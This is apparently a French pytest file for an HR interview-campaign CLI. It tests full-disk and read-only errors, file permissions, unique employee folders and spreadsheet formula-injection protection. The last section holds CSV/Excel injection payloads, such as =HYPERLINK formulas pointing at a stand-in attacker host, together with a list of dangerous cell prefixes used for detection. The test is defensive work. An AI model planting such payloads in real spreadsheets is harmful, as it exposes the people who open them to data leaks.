"""Fiabilité de bout en bout : disque plein, dossier en lecture seule, droits des fichiers,
dossiers uniques, tableurs sans formule venue du registre.

Les tests tournent en root ici et en intégration continue : root ignore les droits d'un
dossier (chmod 0555 ne l'arrête pas). Un vrai disque plein ou en lecture seule est donc un
petit système de fichiers tmpfs monté par le test ; sans le droit de monter, le test
injecte la même erreur à l'endroit de l'écriture (écritures vers /dev/full, qui répond
« plus de place » comme un vrai disque, ou création de dossier refusée).
"""

from __future__ import annotations

import csv
import email
import email.policy
import errno
import io
import os
import shutil
import stat
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from docx import Document

from pipeline import fichiers
from pipeline.cli import cli

# Le dossier de travail (fixture `projet`) et l'appel de la CLI, comme dans test_cli.
try:  # tests/ sans __init__.py : pytest met le dossier dans sys.path
    from test_cli import AU, invoquer, projet  # noqa: F401
except ImportError:  # pragma: no cover
    from tests.test_cli import AU, invoquer, projet  # noqa: F401

DANGEREUX = ("=", "+", "-", "@", "\t", "\r")


# --------------------------------------------------------------------------- registres


def _classeur(chemin: Path, feuilles: dict[str, list[list[object]]]) -> Path:
    """Un registre dont les textes sont des cellules texte, même « =… » (pas des formules)."""
    classeur = openpyxl.Workbook()
    classeur.remove(classeur.active)
    for titre, lignes in feuilles.items():
        feuille = classeur.create_sheet(titre)
        for ligne in lignes:
            feuille.append(ligne)
        for rangee in feuille.iter_rows():
            for cellule in rangee:
                if isinstance(cellule.value, str):
                    cellule.data_type = "s"
    classeur.save(chemin)
    return chemin


EN_TETES_SALARIES = [
    "Matricule", "Civilité", "Nom", "Prénom", "Email", "Date de naissance", "Date d'entrée",
    "Poste", "Service", "Établissement", "Matricule manager", "Adresse", "Code postal", "Ville",
    "Notes",
]  # fmt: skip


def _salarie(matricule: str, nom: str, prenom: str, email: str = "", **autres: object) -> list:
    valeurs = {
        "Matricule": matricule, "Civilité": "M.", "Nom": nom, "Prénom": prenom, "Email": email,
        "Date de naissance": date(1985, 3, 1), "Date d'entrée": date(2025, 10, 6),
        "Poste": "Technicien", "Service": "Atelier", "Établissement": "Lyon",
        "Matricule manager": "", "Adresse": "1 rue des Lilas", "Code postal": "69003",
        "Ville": "Lyon", "Notes": "",
    } | autres  # fmt: skip
    return [valeurs[c] for c in EN_TETES_SALARIES]


# --------------------------------------------------------------------- disque plein, lecture seule


@contextmanager
def tmpfs(dossier: Path, options: str) -> Iterator[bool]:
    """Monte un tmpfs sur `dossier` (rend True), ou rend False sans le droit de monter."""
    dossier.mkdir(parents=True, exist_ok=True)
    if shutil.which("mount") is None:
        yield False
        return
    monte = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(dossier)], capture_output=True
    )
    if monte.returncode != 0:
        yield False
        return
    try:
        yield True
    finally:
        subprocess.run(["umount", "-l", str(dossier)], check=True)


def _remonter(dossier: Path, options: str) -> None:
    subprocess.run(["mount", "-o", f"remount,{options}", str(dossier)], check=True)


def _rien_a_moitie_ecrit(sorties: Path) -> int:
    """Aucun temporaire restant, chaque document et classeur présent est complet."""
    assert not [p for p in sorties.rglob("*.tmp")], "temporaires restants"
    complets = 0
    for chemin in sorties.rglob("*"):
        if chemin.suffix in (".docx", ".xlsx"):
            with zipfile.ZipFile(chemin) as zf:
                assert zf.testzip() is None, chemin
            complets += 1
    return complets


def _sans_trace(sortie: str) -> None:
    assert "Traceback" not in sortie and "OSError" not in sortie and "Errno" not in sortie


def _disque_plein_apres(
    monkeypatch: pytest.MonkeyPatch, fichiers_possibles: int
) -> Callable[[], None]:
    """Sans tmpfs : les écritures partent vers /dev/full, qui répond ENOSPC au write.

    Rend la fonction qui « libère de la place » (les écritures redeviennent normales).
    """
    creer = fichiers._creer_temporaire
    etat = {"crees": 0, "plein": True}

    def creer_puis_remplir(chemin: Path) -> tuple[str, int]:
        temporaire, descripteur = creer(chemin)
        etat["crees"] += 1
        if not etat["plein"] or etat["crees"] <= fichiers_possibles:
            return temporaire, descripteur
        os.close(descripteur)
        return temporaire, os.open("/dev/full", os.O_WRONLY)

    monkeypatch.setattr(fichiers, "_creer_temporaire", creer_puis_remplir)
    return lambda: etat.update(plein=False)


def test_disque_plein_une_phrase_et_rien_a_moitie_ecrit(
    projet: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    sorties = projet / "sorties"
    # 400 Kio : les sources, les tableurs et quelques documents tiennent, pas la campagne.
    with tmpfs(sorties, "size=400k,mode=0755") as monte:
        if not monte:
            liberer = _disque_plein_apres(monkeypatch, fichiers_possibles=12)
        code, sortie = invoquer("convocations", "--au", AU, "--jobs", "2")
        assert code == 1, sortie
        assert "Erreur : Plus de place sur le disque pour écrire « sorties/" in sortie
        assert "libérez de la place" in sortie and "aucun n'est à moitié écrit" in sortie
        _sans_trace(sortie)
        assert _rien_a_moitie_ecrit(sorties) > 0

        # De la place libérée : la relance complète la campagne.
        if monte:
            _remonter(sorties, "size=20m")
        else:
            liberer()
        code, sortie = invoquer("convocations", "--au", AU, "--jobs", "2")
        assert code == 0, sortie
        campagne = sorties / f"exemple-{AU}"
        with open(campagne / "manifeste.csv", encoding="utf-8-sig", newline="") as f:
            inventaire = list(csv.DictReader(f, delimiter=";"))
        documents = {p.relative_to(campagne).as_posix() for p in campagne.rglob("*.docx")}
        assert documents == {ligne["chemin"] for ligne in inventaire if ".docx" in ligne["chemin"]}
        _rien_a_moitie_ecrit(sorties)


def test_dossier_en_lecture_seule_une_phrase(projet: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    sorties = projet / "sorties"
    with tmpfs(sorties, "size=1m,mode=0755") as monte:
        if monte:
            _remonter(sorties, "ro")  # en lecture seule pour tous, root compris
        elif os.geteuid() != 0:
            sorties.chmod(0o555)  # hors root, les droits suffisent
        else:
            # root sans le droit de monter : la création du dossier de campagne est refusée
            # comme sur un disque en lecture seule.
            mkdir = Path.mkdir

            def refuser(chemin: Path, *args: object, **kwargs: object) -> None:
                if sorties in chemin.absolute().parents:
                    raise OSError(errno.EROFS, "Read-only file system", str(chemin))
                mkdir(chemin, *args, **kwargs)

            monkeypatch.setattr(Path, "mkdir", refuser)
        try:
            code, sortie = invoquer("convocations", "--au", AU, "--jobs", "1")
        finally:
            if not monte:
                sorties.chmod(0o755)
    assert code == 1, sortie
    _sans_trace(sortie)
    assert "dossier en lecture seule" in sortie and "« sorties/" in sortie
    assert "choisissez" in sortie and "relancez" in sortie
    assert not list(sorties.rglob("*"))


def test_erreur_systeme_avec_debug_garde_la_trace(projet: Path, monkeypatch) -> None:
    _disque_plein_apres(monkeypatch, fichiers_possibles=0)
    resultat = CliRunner().invoke(cli, ["--debug", "convocations", "--au", AU, "--jobs", "1"])
    assert isinstance(resultat.exception, OSError)
    assert resultat.exception.errno == errno.ENOSPC


# --------------------------------------------------------------------------- droits


@pytest.mark.skipif(os.name == "nt", reason="droits POSIX")
@pytest.mark.parametrize("umask", [0o022, 0o002, 0o077])
def test_les_fichiers_produits_suivent_l_umask(projet: Path, umask: int) -> None:
    ancien = os.umask(umask)
    try:
        assert invoquer("convocations", "--au", AU, "--jobs", "2")[0] == 0
        assert invoquer("publipostage", "--au", AU)[0] == 0
        assert invoquer("archiver", "--au", AU)[0] == 0
        assert invoquer("tableau-de-bord", "--au", AU)[0] == 0
    finally:
        os.umask(ancien)
    produits = [p for p in (projet / "sorties").rglob("*") if p.is_file()]
    assert len(produits) > 100
    modes = {p.relative_to(projet).as_posix(): stat.S_IMODE(p.stat().st_mode) for p in produits}
    attendu = 0o666 & ~umask
    assert {c: m for c, m in modes.items() if m != attendu} == {}


# --------------------------------------------------------------------------- dossiers uniques


def test_deux_salaries_un_dossier_chacun_jusqu_au_publipostage_et_a_l_archive(
    projet: Path,
) -> None:
    """`A/1` et `A_1` homonymes, deux longs matricules qui ne diffèrent qu'après 80
    caractères : chacun son dossier, ses documents, son brouillon et ses lignes d'index."""
    long_ = "M" * 85
    salaries = {
        "A/1": ("Dupont", "Jean", "jean.a-barre@exemple.fr"),
        "A_1": ("Dupont", "Jean", "jean.a-tiret@exemple.fr"),
        f"{long_}1": ("Martin", "Paul", "paul.1@exemple.fr"),
        f"{long_}2": ("Martin", "Paul", "paul.2@exemple.fr"),
    }
    registre = _classeur(
        projet / "registre.xlsx",
        {
            "Salariés": [EN_TETES_SALARIES]
            + [_salarie(m, n, p, e, Poste=f"Poste de {m}") for m, (n, p, e) in salaries.items()]
        },
    )
    options = ("--registre", str(registre), "--au", AU)
    code, sortie = invoquer("convocations", *options, "--jobs", "2")
    assert code == 0, sortie
    campagne = projet / "sorties" / AU
    dossiers = sorted(d.name for d in (campagne / "salaries").iterdir())
    assert len(dossiers) == len(salaries), dossiers
    assert len({d.casefold() for d in dossiers}) == len(salaries)  # Windows, macOS
    with open(campagne / "manifeste.csv", encoding="utf-8-sig", newline="") as f:
        inventaire = list(csv.DictReader(f, delimiter=";"))
    par_matricule: dict[str, set[str]] = {}
    for ligne in inventaire:
        if ligne["chemin"].startswith("salaries/"):
            par_matricule.setdefault(ligne["matricule"], set()).add(ligne["chemin"].split("/")[1])
    # Un dossier par matricule, et la convocation de chacun porte son propre poste.
    assert sorted(par_matricule) == sorted(salaries)
    assert all(len(d) == 1 for d in par_matricule.values())
    assert len({next(iter(d)) for d in par_matricule.values()}) == len(salaries)
    assert sum(1 for ligne in inventaire if ligne["chemin"].startswith("salaries/")) == sum(
        1 for _ in (campagne / "salaries").rglob("*.docx")
    )
    for matricule, (dossier,) in par_matricule.items():
        support = Document(campagne / "salaries" / dossier / "support_preparation.docx")
        texte = "\n".join(p.text for p in support.paragraphs)
        texte += "\n".join(c.text for t in support.tables for r in t.rows for c in r.cells)
        assert f"Poste de {matricule}" in texte, matricule

    # Une relance ne permute rien.
    avant = {p.relative_to(campagne): p.read_bytes() for p in campagne.rglob("*.docx")}
    assert invoquer("convocations", *options, "--jobs", "1")[0] == 0
    assert {p.relative_to(campagne): p.read_bytes() for p in campagne.rglob("*.docx")} == avant

    # Publipostage : chaque brouillon va à son salarié, avec sa propre convocation.
    code, sortie = invoquer("publipostage", *options)
    assert code == 0, sortie
    brouillons = sorted((campagne / "publipostage" / "brouillons").glob("*.eml"))
    assert len(brouillons) == len(salaries)
    for chemin in brouillons:
        message = email.message_from_bytes(chemin.read_bytes(), policy=email.policy.default)
        matricule = message["X-Entretiens-Matricule"]
        assert message["To"].addresses[0].addr_spec == salaries[matricule][2]
        (dossier,) = par_matricule[matricule]
        for piece in message.iter_attachments():
            if piece.get_filename().startswith("Convocation"):
                joint = piece.get_content()
                assert joint == (campagne / "salaries" / dossier / "convocation.docx").read_bytes()

    # Archive : l'index rend à chaque document son vrai matricule.
    code, sortie = invoquer("archiver", *options)
    assert code == 0, sortie
    with open(projet / "sorties/archives/index.csv", encoding="utf-8-sig", newline="") as f:
        index = [ligne for ligne in csv.DictReader(f, delimiter=";") if ligne["Matricule"]]
    for ligne in index:
        dossier = ligne["Chemin dans l'archive"].split("/")[2]
        assert par_matricule[ligne["Matricule"]] == {dossier}
    assert {ligne["Matricule"] for ligne in index} == set(salaries)


# --------------------------------------------------------------------------- formules


def _registre_piege(chemin: Path) -> Path:
    """Une formule dans chaque champ texte du registre, comme un collage malveillant."""

    def piege(texte: str) -> str:
        return f'=HYPERLINK("http://pirate.invalid/{texte}","{texte}")'

    salaries = [
        EN_TETES_SALARIES,
        _salarie(
            "=1+1", piege("Dupont"), "+Jean", "=cmd@exemple.fr",
            Civilité="=civ", Poste="-poste", Service=piege("RH"), Établissement="@etab",
            **{"Matricule manager": "M2", "Adresse": piege("adresse"), "Code postal": "=69003",
               "Ville": "+Lyon", "Notes": piege("notes")},
        ),
        # Sans adresse électronique : une ligne de courrier papier.
        _salarie(
            "M2", "-Martin", "@Claire", "", Service="-Compta", Poste="@resp",
            **{"Adresse": piege("rue"), "Ville": "@Ville", "Notes": "+notes"},
        ),
        # Huit ans d'ancienneté : état des lieux, abondement correctif au tableau de bord.
        _salarie(
            "00003", "@Bernard", "=Luc", "+luc@exemple.fr", Service="+Atelier",
            **{"Date d'entrée": date(2018, 11, 20), "Poste": piege("poste")},
        ),
    ]  # fmt: skip
    return _classeur(
        chemin,
        {
            "Salariés": salaries,
            "Entretiens": [
                ["Matricule", "Date", "Type", "Conduit par", "Commentaire"],
                ["00003", date(2020, 1, 10), "periodique", piege("conducteur"), "+commentaire"],
            ],
            "Formations": [
                ["Matricule", "Intitulé", "Date", "Obligatoire", "Certifiante"],
                ["=1+1", piege("formation"), date(2026, 1, 10), "oui", "non"],
            ],
            "Évolutions": [
                ["Matricule", "Date", "Nature", "Commentaire"],
                ["=1+1", date(2026, 2, 1), "salariale", piege("evolution")],
            ],
        },
    )


def _cellules_dangereuses(nom: str, contenu: bytes) -> list[str]:
    """Les formules (ou textes qu'Excel prendrait pour des formules) d'un .xlsx ou .csv."""
    fautes = []
    if nom.endswith(".xlsx"):
        # Lu en mode normal : quotePrefix (le « ' » d'Excel) n'est visible qu'ainsi.
        classeur = openpyxl.load_workbook(io.BytesIO(contenu))
        for feuille in classeur.worksheets:
            for rangee in feuille.iter_rows():
                for c in rangee:
                    if c.data_type == "f":
                        fautes.append(f"{nom}!{feuille.title}!{c.coordinate} formule {c.value!r}")
                    elif (
                        isinstance(c.value, str)
                        and c.value.startswith(DANGEREUX)
                        and not c.quotePrefix
                    ):
                        fautes.append(f"{nom}!{feuille.title}!{c.coordinate} texte {c.value!r}")
    else:
        texte = contenu.decode("utf-8-sig")
        for numero, ligne in enumerate(csv.reader(io.StringIO(texte), delimiter=";"), 1):
            fautes += [f"{nom}:{numero} {v!r}" for v in ligne if v.startswith(DANGEREUX)]
    return fautes


def test_aucune_formule_venue_du_registre_dans_aucun_tableur(projet: Path) -> None:
    """Chaque .xlsx et .csv qu'une campagne complète produit, relu cellule par cellule."""
    from test_envoi_smtp import demarrer  # serveur SMTP local (aiosmtpd) pour le journal

    registre = _registre_piege(projet / "registre.xlsx")
    # Un vrai envoi exige un expéditeur qui n'est pas celui de l'exemple livré.
    parametres = projet / "parametres_entreprise.toml"
    parametres.write_text(
        '[entreprise]\nemail_rh = "rh@menuiserie.test"\n'
        '[publipostage]\nexpediteur = "rh@menuiserie.test"\n',
        encoding="utf-8",
    )
    options = ("--registre", str(registre), "--parametres", str(parametres), "--au", AU)
    code, sortie = invoquer("verifier", "--registre", str(registre))
    assert code == 0, sortie
    for commande in (
        ("echeances", "--tout", "--sortie", "echeances.csv"),
        ("echeances", "--tout", "--sortie", "echeances.xlsx"),
        ("planifier",),
        ("convocations", "--jobs", "2"),
        ("publipostage",),
    ):
        code, sortie = invoquer(*commande, *options)
        assert code == 0, (commande, sortie)
    controleur, collecteur = demarrer()
    try:
        code, sortie = invoquer(
            "publipostage", *options, "--envoyer", "--reel", "--oui", "--pause", "0",
            "--hote", "127.0.0.1", "--port", str(controleur.port), "--securite", "aucune",
        )  # fmt: skip
    finally:
        controleur.stop()
    assert code == 0 and len(collecteur.recus) == 2, sortie
    for commande in (("archiver",), ("tableau-de-bord",)):
        code, sortie = invoquer(*commande, *options)
        assert code == 0, (commande, sortie)

    tableurs: dict[str, bytes] = {}
    for chemin in projet.rglob("*"):
        if chemin.suffix in (".xlsx", ".csv") and chemin != registre:
            tableurs[chemin.relative_to(projet).as_posix()] = chemin.read_bytes()
    archive = projet / "sorties" / "archives" / f"{AU}.zip"
    with zipfile.ZipFile(archive) as zf:
        for nom in zf.namelist():
            if nom.endswith((".xlsx", ".csv")):
                tableurs[f"{archive.name}:{nom}"] = zf.read(nom)
    # Les copies du registre (_sources) sont l'entrée de l'utilisateur, pas une sortie.
    tableurs = {nom: c for nom, c in tableurs.items() if "/_sources/" not in nom}
    attendus = {
        "echeances.csv", "echeances.xlsx", f"sorties/{AU}/echeances.xlsx",
        f"sorties/{AU}/planning.xlsx", f"sorties/{AU}/manifeste.csv",
        f"sorties/{AU}/publipostage/publipostage.xlsx",
        f"sorties/{AU}/publipostage/publipostage.csv",
        f"sorties/{AU}/publipostage/courriers_papier.csv",
        f"sorties/{AU}/publipostage/envois.csv", "sorties/archives/index.csv",
        f"{AU}.zip:manifeste.csv", "sorties/tableau_de_bord.xlsx",
    }  # fmt: skip
    assert attendus <= set(tableurs), sorted(attendus - set(tableurs))
    fautes = [
        f for nom, contenu in sorted(tableurs.items()) for f in _cellules_dangereuses(nom, contenu)
    ]
    assert not fautes, "\n".join(fautes)
    # Les textes piégés sont bien là, imprimés tels quels : la protection ne les perd pas.
    synthese = openpyxl.load_workbook(projet / "sorties" / "tableau_de_bord.xlsx")["Synthèse"]
    services = [c.value for c in synthese["A"] if isinstance(c.value, str)]
    assert '=HYPERLINK("http://pirate.invalid/RH","RH")' in services
